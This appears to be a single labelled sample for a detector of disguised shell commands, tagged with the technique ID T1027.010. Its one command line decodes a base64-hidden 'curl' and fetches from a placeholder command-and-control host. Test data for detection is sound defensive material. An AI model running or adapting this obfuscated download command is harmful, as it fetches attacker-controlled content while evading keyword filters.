# expect: disguised-command | source: T1027.010
$(echo Y3VybA== | base64 -d) -s https://c2.example.invalid/i
